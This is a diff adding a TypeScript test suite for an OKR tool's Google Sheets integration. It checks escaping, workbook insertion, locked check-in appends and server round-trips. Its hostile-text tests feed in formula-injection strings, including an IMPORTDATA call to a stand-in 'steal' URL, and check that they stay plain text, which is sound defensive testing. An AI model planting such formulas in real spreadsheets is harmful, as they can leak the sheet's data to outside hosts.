@@ -1,0 +1,490 @@
+import { recordCheckIn, type SheetsCheckInResult } from "../src/hosts/sheets/checkIn";
+import * as server from "../src/hosts/sheets/server";
+import { insertWorkbook, sheetsText } from "../src/hosts/sheets/write";
+import { instantiate, templateById, templates } from "../src/okr/templates";
+import { buildWorkbook } from "../src/sheets/build";
+import type { CheckInRecord } from "../src/sheets/checkInRecord";
+import { layoutMark, MARK_NAMES, SHEETS, TABLES } from "../src/sheets/layout";
+import { readPlan } from "../src/sheets/read";
+import { formulaAt, valueAt } from "../src/sheets/snapshot";
+import type { SheetSpec, WorkbookSpec } from "../src/sheets/spec";
+import { cellAddress } from "../src/sheets/spec";
+import {
+  FakeAppsScript,
+  parseA1,
+  parseTyped,
+  SHEETS_CELL_LIMIT,
+  type FakeSheet,
+} from "./support/fakeAppsScript";
+import { planWithKeyResults } from "./support/fakeExcel";
+
+/**
+ * The Google Sheets host against the recording fake of Apps Script (test/support/fakeAppsScript.ts),
+ * which enforces 1-based indices, exact 2-D shapes, the sheet's grid, the 50,000-character cell
+ * and Sheets' reading of typed strings (a leading "=" makes a formula, an apostrophe keeps text).
+ */
+
+const template = templateById(templates[0].id)!;
+const templateSpec = buildWorkbook(instantiate(template));
+
+/** Every difference between a spec sheet and what the fake holds on the sheet it was written to. */
+function differences(spec: SheetSpec, sheet: FakeSheet, styles: WorkbookSpec["styles"]): string[] {
+  const found: string[] = [];
+  for (const { row, column, content, style } of spec.cells) {
+    const where = `${spec.name}!${cellAddress(row, column)}`;
+    const cell = sheet.cell(row + 1, column + 1);
+    const expected =
+      content.kind === "formula"
+        ? { value: "", formula: content.formula }
+        : {
+            value:
+              content.kind === "text"
+                ? content.text
+                : content.kind === "date"
+                  ? content.serial
+                  : content.value,
+            formula: null,
+          };
+    const blank = content.kind === "text" && content.text === "";
+    if (blank ? cell !== undefined : JSON.stringify(cell) !== JSON.stringify(expected))
+      found.push(`${where}: ${JSON.stringify(cell)} instead of ${JSON.stringify(expected)}`);
+    const numberFormat =
+      (style === undefined ? undefined : styles[style].numberFormat) ??
+      (content.kind === "date" ? "yyyy-mm-dd" : undefined);
+    const written = sheet.numberFormats.get(`${row + 1},${column + 1}`);
+    if (numberFormat !== written)
+      found.push(`${where}: number format ${written} instead of ${numberFormat}`);
+  }
+  const expectedCount = spec.cells.filter(
+    ({ content }) => !(content.kind === "text" && content.text === "")
+  ).length;
+  if (sheet.cells.size !== expectedCount)
+    found.push(`${spec.name}: ${sheet.cells.size} cells instead of ${expectedCount}`);
+  return found;
+}
+
+describe("sheetsText keeps text as text when Sheets reads it as typed", () => {
+  test.each([
+    ["Objective 1", "Objective 1"],
+    ['=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'],
+    ["+5 customers", "'+5 customers"],
+    ["-1 if late", "'-1 if late"],
+    ["@lead", "'@lead"],
+    ["'quoted", "''quoted"],
+    ["85%", "'85%"],
+    ["2026-01-01", "'2026-01-01"],
+    ["TRUE", "'TRUE"],
+    ["#N/A", "'#N/A"],
+    ["Mar 3", "'Mar 3"],
+    ["Q1 2026", "Q1 2026"],
+  ])("%s is written as %s", (text, expected) => {
+    expect(sheetsText(text)).toBe(expected);
+    // And the fake, reading it as Sheets does, gives the text back.
+    expect(parseTyped(sheetsText(text))).toEqual({ value: text, formula: null });
+  });
+});
+
+describe("insertWorkbook writes a template's spec", () => {
+  let fake: FakeAppsScript;
+  beforeAll(() => {
+    fake = new FakeAppsScript();
+    insertWorkbook(fake.services(), templateSpec);
+  });
+
+  test("each sheet holds exactly the spec's cells, formulas and number formats", () => {
+    for (const sheet of templateSpec.sheets)
+      expect(differences(sheet, fake.sheet(sheet.name), templateSpec.styles)).toEqual([]);
+  });
+
+  test("the sheets come after the existing one, the Scorecard active", () => {
+    expect(fake.sheets.map((sheet) => sheet.name)).toEqual([
+      "Sheet1",
+      ...templateSpec.sheets.map((sheet) => sheet.name),
+    ]);
+    expect(fake.active?.name).toBe(SHEETS.scorecard);
+  });
+
+  test("range names are named ranges over the spec's cells; constant names are metadata", () => {
+    const named = new Map(fake.namedRanges.map((entry) => [entry.name, entry.range]));
+    for (const name of templateSpec.names) {
+      const reference = /^=(?:'([^']+)'|(\w+))!(.+)$/.exec(name.formula);
+      if (reference === null) {
+        expect(fake.metadata).toContainEqual({ key: name.name, value: name.formula });
+        continue;
+      }
+      const range = named.get(name.name)!;
+      expect(range.sheet.name).toBe(reference[1] ?? reference[2]);
+      expect(range.address()).toBe(reference[3].replace(/\$/g, ""));
+    }
+    expect(fake.metadata.map(({ key }) => key).sort()).toEqual(
+      [MARK_NAMES.layout, MARK_NAMES.style].sort()
+    );
+  });
+
+  test("tables are named ranges with protected header rows and the sheet's filter", () => {
+    for (const sheet of templateSpec.sheets)
+      sheet.tables.forEach((table, index) => {
+        const named = fake.namedRanges.find((entry) => entry.name === table.name)!;
+        const { range } = table;
+        expect(named.range.sheet.name).toBe(sheet.name);
+        expect(parseA1(named.range.address())).toEqual({
+          row: range.startRow + 1,
+          column: range.startColumn + 1,
+          rows: range.endRow - range.startRow + 1,
+          columns: range.endColumn - range.startColumn + 1,
+        });
+        const header = `${sheet.name}!${cellAddress(range.startRow, range.startColumn)}:${cellAddress(range.startRow, range.endColumn)}`;
+        expect(fake.protections).toContainEqual(
+          expect.objectContaining({ range: header, warningOnly: true })
+        );
+        if (index === 0) expect(fake.sheet(sheet.name).filter).toBe(named.range.address());
+      });
+  });
+
+  test("validations, conditional formats and charts follow the spec, one of each per item", () => {
+    for (const sheet of templateSpec.sheets) {
+      const written = fake.sheet(sheet.name);
+      expect(written.validations.map((entry) => entry.rule.kind)).toEqual(
+        sheet.validations.map((validation) =>
+          validation.kind === "list"
+            ? "list"
+            : validation.kind === "date"
+              ? "date"
+              : "numberBetween"
+        )
+      );
+      expect(written.rules.map((rule) => [rule.kind, rule.text, rule.background])).toEqual(
+        sheet.conditionalFormats.map((format) =>
+          format.kind === "textEquals"
+            ? ["textEqualTo", format.text, format.fill]
+            : ["gradient", undefined, undefined]
+        )
+      );
+      expect(written.charts.map((chart) => chart.options.title)).toEqual(
+        (sheet.charts ?? []).map((chart) => chart.title)
+      );
+    }
+    const dashboard = templateSpec.sheets.find((sheet) => sheet.name === SHEETS.dashboard)!;
+    expect(dashboard.charts?.length).toBeGreaterThan(0);
+    // A column chart with dashed threshold lines is a combo chart whose lines are lines.
+    const scores = fake.sheet(SHEETS.dashboard).charts[0];
+    expect(scores.type).toBe("COMBO");
+    expect(scores.ranges).toHaveLength(1 + dashboard.charts![0].series.length);
+  });
+});
+
+describe("inserting never overwrites", () => {
+  test("a second insert makes new sheet and range names and leaves the first as it was", () => {
+    const fake = new FakeAppsScript();
+    insertWorkbook(fake.services(), templateSpec);
+    const before = fake.sheets.map((sheet) => [sheet.name, new Map(sheet.cells)] as const);
+    const second = insertWorkbook(fake.services(), templateSpec);
+    expect(second.sheets[SHEETS.scorecard]).toBe("Scorecard (2)");
+    expect(second.tables[TABLES.keyResults]).toBe("OkrKeyResults2");
+    for (const [name, cells] of before) expect(fake.sheet(name).cells).toEqual(cells);
+    // The second Scorecard's formulas name the second sheets and ranges.
+    const renamed = fake.sheet("Scorecard (2)");
+    const formulas = [...renamed.cells.values()].flatMap((cell) => cell.formula ?? []);
+    expect(formulas.some((formula) => formula.includes("'Check-ins (2)'!"))).toBe(true);
+    expect(formulas.some((formula) => /'Check-ins'!/.test(formula))).toBe(false);
+    expect(second.activeSheet).toBe("Scorecard (2)");
+  });
+
+  test("a sheet already named Scorecard, with text in the cells the spec writes, loses nothing", () => {
+    const fake = new FakeAppsScript();
+    const mine = fake.insertSheet(SHEETS.scorecard, 1, false);
+    for (let row = 1; row <= 30; row++) mine.type(row, 1, `mine ${row}`);
+    insertWorkbook(fake.services(), templateSpec);
+    expect(mine.cells.size).toBe(30);
+    for (let row = 1; row <= 30; row++) expect(mine.cell(row, 1)?.value).toBe(`mine ${row}`);
+    const scorecard = templateSpec.sheets.find((sheet) => sheet.name === SHEETS.scorecard)!;
+    expect(differences(scorecard, fake.sheet("Scorecard (2)"), templateSpec.styles)).toEqual([]);
+  });
+});
+
+describe("hostile text", () => {
+  const plan = instantiate(template);
+
+  test("a title starting with = stays text and never becomes a formula", () => {
+    const hostile = '=IMPORTDATA("http://example.com/steal")';
+    const spec = buildWorkbook({
+      ...plan,
+      objectives: plan.objectives.map((objective, index) =>
+        index === 0 ? { ...objective, title: hostile } : objective
+      ),
+    });
+    const fake = new FakeAppsScript();
+    insertWorkbook(fake.services(), spec);
+    const cells = fake.sheets.flatMap((sheet) => [...sheet.cells.values()]);
+    expect(cells.filter((cell) => cell.value === hostile).length).toBeGreaterThan(0);
+    expect(cells.some((cell) => cell.formula?.includes("IMPORTDATA"))).toBe(false);
+  });
+
+  test("a 60,000-character text is refused with a clear error before anything is written", () => {
+    const long = "x".repeat(60_000);
+    expect(long.length).toBeGreaterThan(SHEETS_CELL_LIMIT);
+    const spec = buildWorkbook({ ...plan, project: long });
+    const fake = new FakeAppsScript();
+    expect(() => insertWorkbook(fake.services(), spec)).toThrow(/60,000 characters long/);
+    expect(fake.sheets.map((sheet) => sheet.name)).toEqual(["Sheet1"]);
+    expect(fake.calls).toEqual([]);
+  });
+
+  test("the fake refuses what Apps Script refuses", () => {
+    const fake = new FakeAppsScript();
+    const sheet = fake.services().SpreadsheetApp.getActiveSpreadsheet().getSheets()[0];
+    expect(() => sheet.getRange(0, 1, 1, 1)).toThrow("The starting row of the range is too small.");
+    expect(() => sheet.getRange(1, 1, 2, 1).setValues([[1]])).toThrow(
+      "The number of rows in the data does not match the number of rows in the range. The data has 1 but the range has 2."
+    );
+    expect(() => sheet.getRange(1, 1, 1, 2).setValues([[1]])).toThrow(/number of columns/);
+    expect(() => sheet.getRange(1, 1, 1, 1).setValues([["y".repeat(50_001)]])).toThrow(
+      /maximum of 50000 characters/
+    );
+    expect(() => sheet.getRange(1001, 1, 1, 1)).toThrow(/outside the dimensions/);
+    const spreadsheet = fake.services().SpreadsheetApp.getActiveSpreadsheet();
+    expect(() => spreadsheet.insertSheet("Sheet1", 1)).toThrow(/already exists/);
+    expect(spreadsheet.getSheetByName("Nope")).toBeNull();
+  });
+});
+
+/** Service calls of one insert of a plan with `keyResults` key results, by class.method. */
+function insertCalls(keyResults: number): { total: number; byMethod: Map<string, number> } {
+  const fake = new FakeAppsScript();
+  insertWorkbook(fake.services(), buildWorkbook(planWithKeyResults(keyResults)));
+  const byMethod = new Map<string, number>();
+  for (const call of fake.calls) byMethod.set(call, (byMethod.get(call) ?? 0) + 1);
+  return { total: fake.calls.length, byMethod };
+}
+
+describe("service calls per insert", () => {
+  test("do not grow with the number of key results", () => {
+    const small = insertCalls(25);
+    const large = insertCalls(2000);
+    // The figures, for the docs page and the bench.
+    console.log(`Sheets insert service calls: 25 key results ${small.total}, 2,000 ${large.total}`);
+    // Only the grid grows: a sheet longer than a new sheet's 1,000 rows gets one insertRowsAfter.
+    // Every other method is called as often or less (the large plan's Dashboard has no charts:
+    // the builder leaves them out past a size).
+    const sheets = 5;
+    const grew = [...large.byMethod].filter(
+      ([method, count]) => count > (small.byMethod.get(method) ?? 0)
+    );
+    expect(grew.map(([method]) => method)).toEqual(["Sheet.insertRowsAfter"]);
+    expect(large.byMethod.get("Sheet.insertRowsAfter")).toBeLessThanOrEqual(sheets);
+    expect(large.total).toBeLessThanOrEqual(small.total + sheets);
+    // The cells go in a few setValues and setFormulas per sheet, not one per key result.
+    expect(large.byMethod.get("Range.setValues")).toBeLessThanOrEqual(5 * 6);
+    expect(large.byMethod.get("Range.setFormulas")).toBeLessThanOrEqual(5 * 12);
+  });
+});
+
+describe("recordCheckIn appends under the document lock", () => {
+  /** 2026-02-16 as a serial date. */
+  const DAY = 46069;
+  const keyResultId = templateSpec.names.length > 0 ? "O1.KR1" : "";
+  const entry = (author: string, id: string): CheckInRecord => ({
+    id,
+    date: DAY,
+    keyResultId,
+    value: 42,
+    confidence: 0.7,
+    comment: `from ${author}`,
+    author,
+    replaces: null,
+  });
+  const checkIns = templateSpec.sheets.find((sheet) => sheet.name === SHEETS.checkIns)!;
+  const log = checkIns.tables[0].range;
+
+  function inserted(): FakeAppsScript {
+    const fake = new FakeAppsScript();
+    insertWorkbook(fake.services(), templateSpec);
+    return fake;
+  }
+
+  /** The log's rows holding a key result, as [row, author, entry]. */
+  function entries(fake: FakeAppsScript): [number, unknown, unknown][] {
+    const sheet = fake.sheet(SHEETS.checkIns);
+    const rows: [number, unknown, unknown][] = [];
+    for (let row = 2; row <= sheet.lastRow(); row++)
+      if (sheet.cell(row, 2) !== undefined)
+        rows.push([row, sheet.cell(row, 6)?.value, sheet.cell(row, 7)?.value]);
+    return rows;
+  }
+
+  test("one check-in lands in the log's first row, with its formulas and date format", () => {
+    const fake = inserted();
+    const result = recordCheckIn(fake.services(), entry("Ann", "a-1"));
+    expect(result).toEqual({
+      id: "a-1",
+      sheet: SHEETS.checkIns,
+      row: 2,
+      address: "A2:P2",
+      grewLog: false,
+    });
+    const sheet = fake.sheet(SHEETS.checkIns);
+    expect(sheet.cell(2, 1)).toEqual({ value: DAY, formula: null });
+    expect(sheet.cell(2, 5)).toEqual({ value: "from Ann", formula: null });
+    // The Valid formula and the trend helpers are the builder's own for that row.
+    for (let column = 9; column <= 16; column++)
+      expect(sheet.cell(2, column)?.formula).toBe(
+        (
+          checkIns.cells.find((cell) => cell.row === 1 && cell.column === column - 1)!.content as {
+            formula: string;
+          }
+        ).formula
+      );
+    expect(sheet.numberFormats.get("2,1")).toBe("yyyy-mm-dd");
+    // Read and written inside the lock, flushed before it was released.
+    const calls = fake.calls;
+    const locked = calls.indexOf("Lock.tryLock");
+    const released = calls.lastIndexOf("Lock.releaseLock");
+    expect(calls.indexOf("Range.getValues")).toBeGreaterThan(locked);
+    expect(calls.lastIndexOf("Range.setValues")).toBeLessThan(released);
+    expect(calls.lastIndexOf("Range.setFormulas")).toBeGreaterThan(locked);
+    expect(calls.lastIndexOf("Range.setFormulas")).toBeLessThan(released);
+    expect(calls.lastIndexOf("SpreadsheetApp.flush")).toBeLessThan(released);
+    expect(fake.lockHolder).toBeNull();
+  });
+
+  test("two interleaved check-ins both land: the second waits while the first writes", () => {
+    const fake = inserted();
+    let bob: SheetsCheckInResult | null = null;
+    // Ann's execution waits for the lock while Bob's runs whole; then Ann gets it.
+    fake.onLockWait = () => {
+      bob = recordCheckIn(fake.services("bob"), entry("Bob", "b-1"));
+    };
+    const ann = recordCheckIn(fake.services("ann"), entry("Ann", "a-1"));
+    expect(bob!.row).toBe(2);
+    expect(ann.row).toBe(3);
+    expect(entries(fake)).toEqual([
+      [2, "Bob", "b-1"],
+      [3, "Ann", "a-1"],
+    ]);
+  });
+
+  test("a check-in past the log's end goes below it and the named range takes it in", () => {
+    const fake = inserted();
+    const rows = log.endRow - log.startRow;
+    for (let index = 0; index < rows + 2; index++)
+      recordCheckIn(fake.services(), entry(`P${index}`, `e-${index}`));
+    expect(entries(fake).map(([row]) => row)).toEqual(
+      Array.from({ length: rows + 2 }, (_, index) => index + 2)
+    );
+    const named = fake.namedRanges.find((entry) => entry.name === TABLES.checkIns)!;
+    expect(parseA1(named.range.address()).rows).toBe(rows + 3);
+  });
+
+  test("text typed under the log is never written over", () => {
+    const fake = inserted();
+    const sheet = fake.sheet(SHEETS.checkIns);
+    const below = log.endRow + 3;
+    sheet.type(below, 5, "my own note");
+    for (let index = 0; index < log.endRow - log.startRow + 1; index++)
+      recordCheckIn(fake.services(), entry(`P${index}`, `e-${index}`));
+    expect(sheet.cell(below, 5)?.value).toBe("my own note");
+    expect(entries(fake).every(([row]) => row !== below)).toBe(true);
+  });
+
+  test("a lock held past the timeout refuses the check-in clearly and writes nothing", () => {
+    const fake = inserted();
+    fake.lockHolder = "someone else";
+    const before = new Map(fake.sheet(SHEETS.checkIns).cells);
+    expect(() =>
+      recordCheckIn(fake.services(), entry("Ann", "a-1"), { lockTimeoutMs: 5000 })
+    ).toThrow(/Someone else is recording a check-in .* more than 5 seconds\. Nothing was written/);
+    expect(fake.sheet(SHEETS.checkIns).cells).toEqual(before);
+  });
+
+  test.each([
+    [
+      "a spreadsheet without a log",
+      (fake: FakeAppsScript) => fake.namedRanges.splice(0),
+      /no check-in log/,
+    ],
+    [
+      "a log whose header lost a column",
+      (fake: FakeAppsScript) => fake.sheet(SHEETS.checkIns).type(1, 7, "Something"),
+      /has no column Entry/,
+    ],
+  ] as const)("%s is refused, saying what to do", (_name, spoil, message) => {
+    const fake = inserted();
+    spoil(fake);
+    expect(() => recordCheckIn(fake.services(), entry("Ann", "a-1"))).toThrow(message);
+    expect(fake.lockHolder).toBeNull();
+  });
+
+  test("hostile text in a check-in stays text", () => {
+    const fake = inserted();
+    recordCheckIn(fake.services(), { ...entry("=1+1", "a-1"), comment: "=IMPORTXML(1)" });
+    const sheet = fake.sheet(SHEETS.checkIns);
+    expect(sheet.cell(2, 5)).toEqual({ value: "=IMPORTXML(1)", formula: null });
+    expect(sheet.cell(2, 6)).toEqual({ value: "=1+1", formula: null });
+  });
+});
+
+describe("server functions", () => {
+  test("insertTemplate, recordCheckIn and readSnapshot round-trip through plain values", () => {
+    const fake = new FakeAppsScript();
+    const services = fake.services();
+    const inserted = server.insertTemplate(services, { spec: templateSpec, fileName: "x.xlsx" });
+    expect(JSON.parse(JSON.stringify(inserted))).toEqual(inserted);
+    const recorded = server.recordCheckIn(services, {
+      keyResultId: "O1.KR1",
+      value: 0.5,
+      date: 46069,
+      confidence: null,
+      author: "Ann",
+      note: "",
+      replaces: null,
+    });
+    expect(recorded.location).toEqual({ sheet: SHEETS.checkIns, address: "A2:P2" });
+    expect(recorded.id).toMatch(/^[a-z0-9]+-[a-z0-9]{6}$/);
+    fake.sheet("Sheet1").hidden = true;
+    const snapshot = server.readSnapshot(services);
+    expect(snapshot.sheets.map((sheet) => [sheet.name, sheet.visible])).toEqual([
+      ["Sheet1", false],
+      ...templateSpec.sheets.map((sheet) => [sheet.name, true]),
+    ]);
+    expect(JSON.parse(JSON.stringify(snapshot))).toEqual(snapshot);
+    const log = snapshot.sheets.find((sheet) => sheet.name === SHEETS.checkIns)!;
+    // The date cell reads back as the serial it was written as, not a Date.
+    expect(valueAt(log, 1, 0)).toBe(46069);
+    expect(formulaAt(log, 1, 8)).toMatch(/^=IF\(/);
+    // Every defined name of the spec reads back with the spec's own formula.
+    expect(
+      templateSpec.names.map((name) => snapshot.names!.find((found) => found.name === name.name))
+    ).toEqual(templateSpec.names.map(({ name, formula }) => ({ name, formula })));
+    const mark = layoutMark(snapshot.names!);
+    expect(mark).toEqual(expect.objectContaining({ style: "portable" }));
+    // The reader finds the plan and the check-in.
+    const read = readPlan(snapshot);
+    expect(read.plan?.objectives.length).toBe(instantiate(template).objectives.length);
+    expect(read.checkIns.map((checkIn) => checkIn.keyResultId)).toEqual(["O1.KR1"]);
+  });
+
+  test.each([
+    ["no request", undefined],
+    ["no spec", { fileName: "x" }],
+    ["a spec without sheets", { spec: { names: [], styles: {} } }],
+  ])("insertTemplate with %s throws a plain Error", (_name, request) => {
+    const fake = new FakeAppsScript();
+    expect(() =>
+      server.insertTemplate(fake.services(), request as unknown as server.SheetsInsertRequest)
+    ).toThrow("The request holds no workbook to insert: choose a template and insert again.");
+  });
+
+  test("an unwritable spec comes back as a plain Error, not its subclass", () => {
+    const fake = new FakeAppsScript();
+    const spec = buildWorkbook({ ...instantiate(template), project: "x".repeat(40_000) });
+    let thrown: unknown;
+    try {
+      server.insertTemplate(fake.services(), { spec });
+    } catch (error) {
+      thrown = error;
+    }
+    expect(thrown).toBeInstanceOf(Error);
+    expect((thrown as Error).constructor).toBe(Error);
+    expect((thrown as Error).message).toMatch(/40,000 characters long/);
+  });
+});
